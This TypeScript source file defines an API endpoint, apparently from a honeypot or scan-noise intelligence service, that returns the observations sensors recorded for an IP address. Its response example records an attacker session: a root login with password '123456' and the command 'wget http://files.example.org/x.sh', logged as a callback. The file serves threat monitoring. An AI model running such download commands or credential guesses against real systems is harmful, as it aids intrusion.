import { DATASETS } from "@noisefloor/domain/access/scope.ts";
import { namesOf, SSH, STORED_HTTP, TLS, VISIT } from "@noisefloor/domain/observation/members.ts";
import { shapeOf } from "@noisefloor/domain/observation/schema.ts";
import { defineOperation, errorResponse } from "@noisefloor/http/operations/operation.ts";
import { pageToken } from "@noisefloor/http/requests/page-token.ts";
import { choice } from "@noisefloor/http/requests/parameters.ts";
import { z } from "zod";
import { ADDRESS, LIMIT, WORKSPACE_LABELS } from "../parameters.ts";
import { EXAMPLE_TAG, wireTagSchema } from "../tags/wire-tag.ts";
import { count, ip, LIMIT_HEADERS, TOO_MANY_LOOKUPS, texts, timestamp } from "../wire.ts";

const positionSchema = z.strictObject({
  /** `observed_at`, in milliseconds since 1970 UTC. */
  at: z.int().min(0).lt(1e13),
  /** Orders observations of the same millisecond: a hash, so that a cursor tells nothing of sensors or workspaces. */
  tie: z.string().regex(/^[0-9a-f]{16}$/),
});
/** Where a list of observations, newest first, continues: after this one. */
export type Position = z.infer<typeof positionSchema>;

export const CURSOR = pageToken({
  name: "cursor",
  description: "Continues after the page whose response has this `cursor`. Left out or empty, the newest come first.",
  takes: "the cursor of a response",
  position: positionSchema,
  example: "eyJwb3NpdGlvbiI6eyJhdCI6MTc2MzY0NDgyNjAwMCwidGllIjoiOWYzYzYxZDJhOGIwNGUxNyJ9fQ",
});

export const OBSERVATIONS_FORMAT = choice({
  name: "format",
  description: "As NDJSON a page is an observation a line, and its cursor the header `Next-Cursor`.",
  values: ["json", "ndjson"],
  fallback: "json",
});

/** The members of an observation that are shown of every sensor, and not once for the address. */
const {
  observed_at: _time,
  sensor_id: _sensor,
  source_ip: _source,
  observation_id: _id,
  dataset: _dataset,
  workspace_id: _workspace,
  tags: _tags,
  session_id: _session,
  metadata: _metadata,
  established: _established,
  ...SHOWN
} = VISIT;
/** Their names. */
export const SHOWN_MEMBERS = namesOf(
  SHOWN,
  "ip_protocol",
  "port",
  "protocol_name",
  "logins",
  "count",
  "texts",
  "digests",
  "identifiers",
);

/** Text that scanners chose. */
const text = z.string();
const optionalText = () => text.optional();
const optionalTexts = () => texts.optional();

/** A member that the sensor did not report is missing. */
const SCHEMAS = {
  ip_protocol: optionalText,
  port: () => z.int().min(0).max(65_535).optional(),
  protocol_name: optionalText,
  logins: () => z.array(z.strictObject({ username: text, password: text })).optional(),
  count: () => count.optional(),
  texts: optionalTexts,
  digests: optionalTexts,
  identifiers: optionalTexts,
  text: optionalText,
  lines: optionalTexts,
};

const observationSchema = z
  .strictObject({
    observed_at: timestamp.describe("To the millisecond."),
    dataset: z.enum(DATASETS),
    sensor_id: text.optional().describe("Only where the caller may know the sensors of the dataset by name."),
    observation_id: text.optional().describe("As the sensor sent it, or made by the intake. Shown with the sensor."),
    session_id: text
      .optional()
      .describe(
        "Present when this is all that the sensor sent about one session of the address. Shown with the sensor.",
      ),
    established: z.boolean().describe("Whether it proves that the source receives what is sent to it."),
    ...shapeOf(SHOWN, SCHEMAS),
    callbacks: z
      .array(
        z
          .strictObject({
            host: text.describe("An IPv4 address or a name in lower case."),
            port: z.int().min(1).max(65_535).optional().describe("Missing where neither text nor scheme says one."),
            scheme: text,
            path: optionalText(),
            sha256: optionalText().describe("Of what the sensor fetched from there."),
          })
          .meta({ id: "ObservationCallback" }),
      )
      .optional()
      .describe("The hosts that it told the sensor to fetch from or to connect to."),
    http: z.strictObject(shapeOf(STORED_HTTP, SCHEMAS)).optional(),
    tls: z.strictObject(shapeOf(TLS, SCHEMAS)).optional(),
    ssh: z.strictObject(shapeOf(SSH, SCHEMAS)).optional(),
    tags: z.array(
      wireTagSchema
        .pick({ id: true, slug: true, name: true, intention: true })
        .extend({
          given_by: z
            .enum(["sensor", "rule", "both"])
            .describe("Who gave it: the sensor, the tag's rule (`/v3/noise/tags/{slug}/rule`), or both."),
        })
        .strict()
        .meta({ id: "ObservationTag" }),
    ),
  })
  .meta({ id: "AddressObservation" });
export type AddressObservation = z.input<typeof observationSchema>;

/** `GET /v3/noise/ips/{ip}/observations`: what an address did, newest first. */
export const getAddressObservations = defineOperation({
  id: "getAddressObservations",
  method: "GET",
  path: "/v3/noise/ips/{ip}/observations",
  group: "Addresses",
  summary: "What an address did, observation by observation",
  description:
    "Newest first. Members that the sensor did not report are missing. A page has `limit` observations, or fewer where " +
    "they are large; only an empty `cursor` means that there are no more. Covers all that is stored. Each page counts " +
    "as a lookup.",
  pathParameters: { ip: ADDRESS },
  queryParameters: [LIMIT, CURSOR.parameter, OBSERVATIONS_FORMAT, WORKSPACE_LABELS],
  success: {
    status: 200,
    description: "A page of observations, possibly none.",
    schema: z
      .strictObject({
        ip,
        observations: z.array(observationSchema),
        cursor: z.string().describe("For the next page; empty on the last."),
      })
      .meta({ id: "AddressObservations" }),
    example: {
      ip: "192.175.48.6",
      observations: [
        {
          observed_at: "2026-11-20T13:20:26.250Z",
          dataset: "global",
          established: true,
          destination_port: 22,
          transport: "tcp",
          credentials: [{ username: "root", password: "123456" }],
          commands: ["wget http://files.example.org/x.sh"],
          callbacks: [{ host: "files.example.org", port: 80, scheme: "http", path: "/x.sh" }],
          tags: [
            {
              id: EXAMPLE_TAG.id,
              slug: EXAMPLE_TAG.slug,
              name: EXAMPLE_TAG.name,
              intention: EXAMPLE_TAG.intention,
              given_by: "rule",
            },
          ],
        },
      ],
      cursor: "",
    },
    otherMediaTypes: {
      "application/x-ndjson":
        '{"observed_at":"2026-11-20T13:20:26.250Z","dataset":"global","destination_port":22,"transport":"tcp","tags":[]}\n',
    },
    headers: LIMIT_HEADERS,
    textHeaders: { "Next-Cursor": "Only of NDJSON: the `cursor` of the page; missing on the last." },
  },
  errorResponses: {
    400: errorResponse(
      "The address is not routable, a parameter is invalid, a scope is unrecognized, or `personal` is requested without a key.",
      "Invalid parameter: cursor takes the cursor of a response",
    ),
    429: TOO_MANY_LOOKUPS,
  },
});
